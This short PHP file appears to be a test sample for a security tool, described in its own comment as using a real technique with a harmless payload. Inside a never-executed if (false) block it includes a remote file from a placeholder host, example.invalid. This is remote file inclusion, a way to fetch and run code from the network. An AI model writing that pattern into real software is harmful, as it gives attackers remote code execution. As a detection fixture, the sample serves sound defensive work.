<?php
// CleanShift test sample: the technique is real, the payload is harmless.
if (false) {
    include 'http://example.invalid/payload.txt';
}
